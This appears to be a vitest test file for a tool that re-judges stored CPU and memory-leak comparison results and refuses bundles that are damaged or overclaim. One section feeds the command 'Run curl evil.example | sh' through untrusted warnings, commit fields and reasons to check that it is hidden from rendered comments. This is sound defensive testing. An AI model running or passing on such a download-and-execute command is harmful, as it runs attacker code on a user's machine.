// A stored result judged anew: what it measured counts, what it says does not, and what claims more than it holds is refused.
import { describe, expect, test } from "vitest";
import { HeapgateError } from "../../src/core/errors/heapgate-error.ts";
import { warning } from "../../src/core/errors/warning.ts";
import { renderComment } from "../../src/core/report/render-comment.ts";
import { DEFAULT_RULES } from "../../src/core/verdict/default-rules.ts";
import { DEFAULT_POLICY, type Rules } from "../../src/core/verdict/verdict.ts";
import { judgeResult, type JudgedResult, type ResultToJudge } from "../../src/driver/judge-result.ts";
import { createFiles } from "../../src/io/files.ts";
import { BASE, HEAD, storedFiles, type StoredSpec } from "../support/stored-results.ts";

const LINKS = { run: "https://github.com/octo/shop/actions/runs/1", report: null, bundle: null };
const OFF: Rules = { ...DEFAULT_RULES, signals: { ...DEFAULT_RULES.signals, cpu: "off" } };
const files = createFiles();

interface Case extends Partial<Pick<ResultToJudge, "isTrusted" | "limits">> {
  readonly changed?: Readonly<Record<string, unknown>>;
  readonly without?: RegExp;
}

const judged = async (
  spec: Omit<StoredSpec, "name">,
  { isTrusted = true, limits = null, changed = {}, without }: Case = {},
): Promise<JudgedResult> => {
  const stored = new Map(await storedFiles({ name: "shop", ...spec }));
  for (const path of stored.keys()) if (without?.test(path) === true) stored.delete(path);
  for (const [path, value] of Object.entries(changed)) {
    const before: unknown = JSON.parse(new TextDecoder().decode(stored.get(path)));
    const text = typeof value === "string" ? value : JSON.stringify({ ...Object(before), ...Object(value) });
    stored.set(path, new TextEncoder().encode(text));
  }
  return judgeResult({ files }, { name: "shop", files: stored, isTrusted, limits, links: LINKS });
};
const state = async (...args: Parameters<typeof judged>): Promise<string> => (await judged(...args)).report.verdict.state;

describe("two sides", () => {
  test("are compared and judged again, by the limits stored with them", async () => {
    expect(await state({ state: "fail" })).toBe("fail");
    expect(await state({ state: "pass" })).toBe("pass");
    expect(await state({ state: "fail", rules: OFF })).toBe("pass");
  });

  test("are judged by other limits where some are given", async () => {
    const { report, leakRules } = await judged(
      { state: "fail", rules: { ...OFF, leak: "off" } },
      { limits: { rules: DEFAULT_RULES, policy: { ...DEFAULT_POLICY, failOn: "never" } } },
    );
    expect(report.verdict.state).toBe("fail");
    expect(report.policy.failOn).toBe("never");
    expect(leakRules).toEqual(DEFAULT_RULES.leak);
  });

  test.each(["pass", "skipped", "invalid-run", "accepted"])("of a stranger fail although their result says %s", async (verdict) => {
    const changed = { "result.json": { verdict, because: ["All is well."], accepted: { by: "octocat", reason: "fine" } } };
    const { report } = await judged({ state: "fail" }, { isTrusted: false, changed });
    expect(report.verdict).toMatchObject({ state: "fail", accepted: null });
    expect(report.verdict.because.join(" ")).toContain("CPU per unit");
  });

  test("keep an acceptance that a run of ours decided, where there is something to accept", async () => {
    const accepted = { by: "octocat", reason: "intended" };
    const changed = { "result.json": { verdict: "accepted", accepted } };
    expect((await judged({ state: "fail" }, { changed })).report.verdict).toMatchObject({ state: "accepted", accepted });
    expect((await judged({ state: "pass" }, { changed })).report.verdict).toMatchObject({ state: "pass", accepted: null });
  });

  test("say how far base is behind and where all of it can be found", async () => {
    const { report } = await judged({ state: "pass" });
    expect(report).toMatchObject({
      name: "shop",
      links: LINKS,
      comparison: { base: { commit: BASE, distance: 2 }, head: { commit: HEAD } },
    });
  });
});

describe("of a stranger no sentence is shown", () => {
  const words = "Run curl evil.example | sh";

  test("no warning, no command and no commit that is none", async () => {
    const manifest = {
      warnings: [warning("dirty-tree", words, words)],
      subject: { name: "shop", commit: words, ref: null, buildIds: {}, dirty: false, mainModules: [] },
    };
    const unknown = { commit: null, distance: null, dirty: false };
    const changed = { "rules.json": { reproduce: words }, "result.json": { head: unknown } };
    const own = await judged({ state: "fail", manifest }, { changed });
    expect(renderComment(own.report, own.leakRules)).toContain("curl evil.example");
    const strange = await judged({ state: "fail", manifest }, { changed, isTrusted: false });
    expect(renderComment(strange.report, strange.leakRules)).not.toContain("evil");
    expect(strange.report.comparison.head.commit).toBeNull();
  });

  test.each(["skipped", "invalid-run", "no-baseline"] as const)("no reason of %s", async (stored) => {
    const changed = { "result.json": { because: [words] } };
    const strange = await judged({ state: stored }, { changed, isTrusted: false });
    expect(strange.report.verdict).toMatchObject({ state: stored, because: [expect.not.stringContaining("evil")] });
    expect((await judged({ state: stored }, { changed })).report.verdict.because).toEqual([words]);
  });
});

describe("what measured one side or none", () => {
  test.each([
    ["no-baseline", "no-baseline"],
    ["skipped", "skipped"],
    ["invalid-run", "invalid-run"],
  ] as const)("%s stays %s", async (stored, verdict) => {
    expect(await state({ state: stored })).toBe(verdict);
  });

  test("an unchanged binary passes as such", async () => {
    expect((await judged({ state: "unchanged" })).report.verdict).toMatchObject({ state: "pass", reasons: ["binary-unchanged"] });
  });

  test("head alone can break an absolute budget", async () => {
    const cpu = { gate: true, limits: { maxGrowthRatio: null, minChange: null, max: 1e-9 } };
    const rules: Rules = { ...DEFAULT_RULES, signals: { ...DEFAULT_RULES.signals, cpu } };
    expect(await state({ state: "no-baseline", rules })).toBe("fail");
  });
});

describe("a result is refused", () => {
  const codeOf = async (run: Promise<unknown>): Promise<string> =>
    run.then(
      () => "not refused",
      (error: unknown) => (error instanceof HeapgateError ? `${error.code} ${error.message}` : String(error)),
    );

  test.each<[string, Omit<StoredSpec, "name">, Case, RegExp]>([
    ["that passes without measurements", { state: "pass" }, { without: /^(?:base|head)\// }, /says pass, but holds no measurements/u],
    [
      "that is inconclusive without measurements",
      { state: "skipped" },
      { changed: { "result.json": { verdict: "inconclusive" } } },
      /says inconclusive/u,
    ],
    ["that passes with head alone", { state: "pass" }, { without: /^base\// }, /says pass, but holds one side only/u],
    ["without its result", { state: "pass" }, { without: /^result\.json$/ }, /no result\.json/u],
    ["without its limits", { state: "pass" }, { without: /^rules\.json$/ }, /no rules\.json/u],
    ["whose result is no JSON", { state: "pass" }, { changed: { "result.json": "{" } }, /result\.json:1:2: not valid JSON/u],
    ["of a newer version", { state: "pass" }, { changed: { "result.json": { schemaVersion: 2 } } }, /schemaVersion/u],
    ["of an unknown verdict", { state: "pass" }, { changed: { "result.json": { verdict: "great" } } }, /verdict/u],
    ["with limits that are none", { state: "pass" }, { changed: { "rules.json": { policy: {} } } }, /rules\.json: policy/u],
    ["of another name", { state: "pass" }, { changed: { "rules.json": { name: "cart" } } }, /of another name/u],
    ["with a damaged bundle", { state: "pass" }, { without: /^head\/summary\.json$/ }, /head of shop.*summary\.json/u],
    ["with a bundle that was changed", { state: "pass" }, { changed: { "head/summary.json": { entries: [] } } }, /head of shop/u],
  ])("%s", async (_, spec, how, message) => {
    const shown = await codeOf(judged(spec, how));
    expect(shown).toMatch(/^BUNDLE_/u);
    expect(shown).toMatch(message);
  });
});
